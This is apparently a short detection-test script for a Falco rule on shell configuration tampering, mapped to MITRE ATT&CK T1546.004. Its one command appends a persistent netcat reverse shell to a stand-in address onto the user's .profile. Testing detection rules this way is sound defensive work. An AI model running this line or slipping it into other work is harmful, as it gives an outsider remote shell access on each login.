#!/bin/sh
# title: Shell start-up file modified (.profile)
# technique: T1546.004 Event Triggered Execution: Unix Shell Configuration Modification
# source: https://attack.mitre.org/techniques/T1546/004/ ; Falco "Modify Shell Configuration File"
# expect: Shell configuration modified
# nonroot: yes
echo 'nohup nc 198.51.100.1 4444 -e /bin/sh >/dev/null 2>&1 &' >> "$HOME/.profile"
